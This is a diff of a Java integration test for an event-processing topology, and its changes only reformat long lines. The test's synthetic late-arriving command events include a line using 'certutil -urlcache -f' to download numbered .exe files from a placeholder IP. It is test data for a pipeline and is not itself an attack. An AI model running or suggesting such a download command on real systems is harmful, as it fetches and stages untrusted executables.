@@ -108,8 +108,7 @@ class FunctionOfTheEventsIT {
     // Pools of 30 are far smaller than the 150 lines of a shard: the previous models choose.
     options =
         new TopologyOptions(
-            new TopologyOptions.Events(
-                defaults.events().windows(), TimeRange.ALL, LATENESS),
+            new TopologyOptions.Events(defaults.events().windows(), TimeRange.ALL, LATENESS),
             new TopologyOptions.Ranking(
                 Scales.BOTH,
                 SHARDS,
@@ -157,7 +156,8 @@ class FunctionOfTheEventsIT {
           Output.LATE, late.stream().map(record -> LateLine.of(record.event())).sorted().toList());
     }
     expected.put(Output.FUNNEL, funnelWith(late));
-    Map<Output, List<String>> result = outputOf(UUID.randomUUID().toString(), run, arrival(run.shuffle()), late);
+    Map<Output, List<String>> result =
+        outputOf(UUID.randomUUID().toString(), run, arrival(run.shuffle()), late);
     assertThat(result.keySet()).isEqualTo(expected.keySet());
     expected.forEach(
         (output, lines) ->
@@ -188,7 +188,8 @@ class FunctionOfTheEventsIT {
             case 2 -> LAST_DAY - 1;
             default -> early.timestamp();
           };
-      String line = i % 2 == 0 ? ofTheDay : "certutil -urlcache -f http://203.0.113.9/" + i + ".exe";
+      String line =
+          i % 2 == 0 ? ofTheDay : "certutil -urlcache -f http://203.0.113.9/" + i + ".exe";
       late.add(
           new SourceRecord(
               new CommandEvent("late-" + i, ts, "host", "user", "linux", "", "", line), null));
